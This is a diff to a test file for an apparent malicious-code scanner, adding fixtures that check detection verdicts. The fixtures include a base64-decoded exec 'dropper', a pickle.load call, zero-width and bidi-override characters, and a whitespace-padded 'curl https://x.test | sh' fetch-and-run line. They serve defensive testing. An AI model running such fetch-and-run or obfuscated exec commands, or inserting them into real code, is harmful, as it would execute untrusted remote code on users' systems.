@@ -109,7 +109,7 @@ def outcomes(files: dict[str, bytes]) -> list[Outcome]:
 
 def test_an_ordinary_tree_is_clean_and_says_what_was_not_looked_at() -> None:
     tree = {
-        "README.md": "# A caf\u00e9 \U0001f600\n".encode(),
+        "README.md": "# Gr\u00fc\u00dfe \U0001f600\n".encode(),
         "a.py": b"import json\n",
         "logo.png": png(),
         "build.sh": b"#!/bin/sh\nmake\n",
@@ -139,3 +139,11 @@ def test_a_dropper_is_malicious_and_a_medium_problem_leaves_the_file_clean() -> 
         judged_code(b"import base64\nexec(base64.b64decode('cHJpbnQoMSkgICAg'))\n", "a.py").verdict is Verdict.MALICIOUS
     )
     assert judged_code(b"def f(x):\n    return eval(x)\n", "a.py").verdict is Verdict.CLEAN
+
+
+def test_many_small_problems_do_not_push_a_bad_one_out() -> None:
+    noise = "def f(x):\n" + "    eval(x)\n" * 500
+    assert judged_code(f"{noise}import pickle\npickle.load(x)\n".encode(), "a.py").verdict is Verdict.UNKNOWN
+    hidden = "# \u200b\n" * 300 + "# \u202e\n"
+    assert judged_code(hidden.encode(), "a.py").verdict is Verdict.UNKNOWN
+    assert "ASY-PY-032" in rules_of("curl https://x.test " + " " * 100_000 + "| sh\n", "a.sh")
